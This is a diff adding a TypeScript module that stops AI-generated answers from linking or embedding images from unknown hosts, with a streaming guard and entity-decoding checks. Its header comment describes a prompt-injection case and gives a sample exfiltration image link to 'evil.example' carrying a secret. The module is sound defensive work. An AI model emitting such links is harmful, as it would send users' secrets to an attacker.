@@ -1,0 +1,217 @@
+/**
+ * @file Keeps addresses of unknown hosts from becoming links or images. A document may try to have the model
+ * write `![](https://evil.example/?q=SECRET)`: a page that shows the answer would send the secret off.
+ */
+import { withoutInvisible } from './inert.ts'
+
+/** Whether answers may link to a host. */
+export type KnownHost = (host: string) => boolean
+
+/**
+ * Known are the hosts that sources come from, and those configured: `docs.example.com`, or `*.example.com` for
+ * a domain with all below it.
+ */
+export function knownHosts(uris: Iterable<string>, configured: readonly string[] = []): KnownHost {
+  const exact = new Set<string>()
+  const domains: string[] = []
+  for (const uri of uris) {
+    const url = /^https?:/i.test(uri) ? URL.parse(uri) : null
+    if (url) exact.add(url.hostname)
+  }
+  for (const host of configured.map((name) => name.toLowerCase()))
+    host.startsWith('*.') ? domains.push(host.slice(2)) : exact.add(host)
+  return (host) =>
+    exact.has(host) || domains.some((domain) => host === domain || host.endsWith(`.${domain}`))
+}
+
+/**
+ * The text with addresses of unknown hosts as mere text; where a link points to one, it points nowhere. Tags of
+ * HTML are shown, not followed.
+ */
+export function withoutForeignLinks(text: string, isKnown: KnownHost): string {
+  return disarm(withoutInvisible(text), '', isKnown)
+}
+
+export type LinkGuard = {
+  /** The text that is settled; what may still grow into an address is held back. */
+  push(text: string): string
+  /** What was held back. */
+  end(): string
+}
+
+/** The same for text that comes in pieces; the result does not depend on how it is cut. */
+export function createLinkGuard(isKnown: KnownHost): LinkGuard {
+  let held = ''
+  let before = ''
+  const settle = (text: string): string => {
+    const settled = disarm(text, before, isKnown)
+    before = (before + text).slice(-1)
+    return settled
+  }
+  return {
+    push(text) {
+      held += withoutInvisible(text)
+      const end = settledEnd(held)
+      const settled = settle(held.slice(0, end))
+      held = held.slice(end)
+      return settled
+    },
+    end() {
+      const rest = settle(held)
+      held = ''
+      before = ''
+      return rest
+    },
+  }
+}
+
+/** Whether text that goes on here would go on with where a link or a definition points to. */
+export function endsInTarget(text: string): 'link' | 'definition' | undefined {
+  const open = OPEN_TARGET.exec(text)
+  if (open?.[0].startsWith('](')) return 'link'
+  return open && DEFINED.test(text.slice(0, open.index + 2)) ? 'definition' : undefined
+}
+
+/** Longer words are no addresses; what they hold so far is judged. */
+const LONGEST_WORD = 4096
+
+/** Of all schemes, those that pages turn into links where they stand in text. */
+const SCHEMES = ['https', 'http', 'ftp', 'wss', 'ws', 'file', 'blob']
+
+/** Where a link or a definition says what it points to: `](x`, `](<x y`, `]: x`; lines of quotes begin with `>`. */
+const PLACE = String.raw`\][(:][\s>]*`
+const TARGET = new RegExp(`(${PLACE})(<[^<>\\n]*>?|[^\\s)]+)`, 'g')
+/** Definitions begin a line, perhaps one of a quote or a list. */
+const DEFINED = /(?:^|\n)[\s>*+\d.)-]*\[(?:\\.|[^\]\\])*\]:$/
+/** A target without its end. */
+const OPEN_TARGET = new RegExp(String.raw`\]$|${PLACE}(?:<[^<>\n]*|[^\s)<][^\s)]*)?$`)
+
+const SLASHES = String.raw`(?:\\?[/\\]){2,}`
+const WORD_START = '(?<![a-z0-9.-])'
+/** A scheme, if any, and slashes with a host behind them; or `www.`, however often. */
+const ADDRESS = new RegExp(
+  [
+    String.raw`(?:${WORD_START}(?:${SCHEMES.join('|')}):)?${SLASHES}(?=[^\s/\\])`,
+    String.raw`${WORD_START}(?:www\.)+`,
+  ].join('|'),
+  'gi',
+)
+const HOST = /^(?:[^\s/?#<>()"'`|\\@]*@)?(\[[0-9a-f:.]*\]|[^\s/?#<>()"'`|\\:[\]]*)/i
+
+/** Where the text ends that more text cannot change. */
+function settledEnd(text: string): number {
+  const targets = [...text.matchAll(TARGET)]
+  const last = targets.findLast(({ 0: { length }, index }) => index + length < text.length)
+  const from = last ? last.index + last[0].length : 0
+  const target = OPEN_TARGET.exec(text.slice(from))
+  const word = /\S*$/.exec(text)!
+  const isOpen = word[0].length <= LONGEST_WORD && mayBecomeAddress(word[0])
+  const targetStart = target ? from + target.index : text.length
+  return Math.min(targetStart, isOpen ? Math.max(from, word.index) : text.length)
+}
+
+function mayBecomeAddress(word: string): boolean {
+  if (/[:/\\&<]|www\./i.test(word)) return true
+  const last = /[a-z0-9.-]*$/i.exec(word)![0].toLowerCase()
+  if (last === '') return false
+  return 'www'.startsWith(last) || SCHEMES.some((scheme) => scheme.startsWith(last))
+}
+
+function disarm(text: string, before: string, isKnown: KnownHost): string {
+  const plain = withPlainCharacters(text)
+  let result = ''
+  let done = 0
+  let last = before
+  for (const { 0: whole, 1: place = '', 2: target = '', index } of plain.matchAll(TARGET)) {
+    result += disarmProse(plain.slice(done, index), last, isKnown) + place
+    result += disarmTarget(target, isKnown)
+    done = index + whole.length
+    last = plain[done - 1]!
+  }
+  return result + disarmProse(plain.slice(done), last, isKnown)
+}
+
+/** It may not be a target after all, where no bracket opens the link: then it is prose. */
+function disarmTarget(target: string, isKnown: KnownHost): string {
+  if (pointsAway(target, isKnown)) return target.startsWith('<') ? '<>' : ''
+  const bare = /^<(.*)>$/.exec(target)?.[1]
+  const plain = bare?.replace(/[\s()]/g, (one) => `%${one.charCodeAt(0).toString(16)}`) ?? target
+  return disarmProse(plain, ' ', isKnown)
+}
+
+function disarmProse(text: string, before: string, isKnown: KnownHost): string {
+  const whole = before + text
+  let result = ''
+  let done = before.length
+  for (const match of whole.matchAll(ADDRESS)) {
+    if (match.index < done || isHarmless(match[0], hostBehind(whole, match), isKnown)) continue
+    result += whole.slice(done, match.index)
+    done = match.index + match[0].length
+  }
+  return withoutTags(result + whole.slice(done))
+}
+
+function hostBehind(text: string, { 0: start, index }: RegExpExecArray): string {
+  const host = HOST.exec(text.slice(index + start.length))![1]!
+  return host.toLowerCase().replace(/[.,;!?]+$/, '')
+}
+
+/** Comments and paths such as `//note` name no host. */
+function isHarmless(start: string, host: string, isKnown: KnownHost): boolean {
+  if (/^www\.$/i.test(start)) return isKnown(`www.${host}`)
+  if (!/^[a-z]/i.test(start)) return isKnown(host) || !/[.:]/.test(host)
+  return /^https?:/i.test(start) && isKnown(host)
+}
+
+/** A tag becomes text: it may load, send or cover anything. Addresses between angle brackets are no tags. */
+function withoutTags(text: string): string {
+  return text.replace(/(\\*)<(?=[a-z/!?])(?!https?:\/\/)/gi, (tag, escapes: string) =>
+    escapes.length % 2 === 1 ? tag : `${escapes}\\<`,
+  )
+}
+
+/** Pages of either scheme resolve an address in their own way. */
+const PAGES = ['http://page.invalid/', 'https://page.invalid/']
+
+/** Whether a browser that follows the target of a link leaves for a host that is not known. */
+function pointsAway(target: string, isKnown: KnownHost): boolean {
+  const written = target.replace(/^<|>$/g, '')
+  // Rarely meant, and able to stand for any character.
+  if (/&(?!amp;)#?\w+;/i.test(written)) return true
+  const read = written.replaceAll('&amp;', '&').replace(/\\([!-/:-@[-`{-~])/g, '$1')
+  return [written, read].some((one) => PAGES.some((page) => leaves(one, page, isKnown)))
+}
+
+function leaves(target: string, page: string, isKnown: KnownHost): boolean {
+  const url = URL.parse(target, page)
+  if (!url) return false
+  // A letter that is already written may carry what the model was told.
+  if (url.protocol === 'mailto:') return url.search !== ''
+  if (!/^https?:$/.test(url.protocol)) return true
+  return url.host !== new URL(page).host && !isKnown(url.hostname)
+}
+
+/** Characters of addresses that Markdown lets one write otherwise, as themselves; behind `]` they would mean more. */
+function withPlainCharacters(text: string): string {
+  return text
+    .replace(/(?<!\])&(?:#(\d{1,7})|#x([0-9a-f]{1,6})|(\w{1,10}));/gi, plainCharacter)
+    .replace(/(?<![\\\]])((?:\\\\)*)\\([./:])/g, '$1$2')
+}
+
+const NAMED: Readonly<Record<string, string>> = {
+  colon: ':',
+  sol: '/',
+  bsol: '\\\\',
+  period: '.',
+  tab: ' ',
+  newline: ' ',
+}
+
+function plainCharacter(entity: string, decimal?: string, hex?: string, name?: string): string {
+  if (name !== undefined) return NAMED[name.toLowerCase()] ?? entity
+  const code = decimal === undefined ? Number.parseInt(hex!, 16) : Number(decimal)
+  if (code <= 32) return ' '
+  const character = code < 127 ? String.fromCharCode(code) : ''
+  if (character === '\\') return NAMED.bsol!
+  return /^[a-z0-9./:]$/i.test(character) ? character : entity
+}
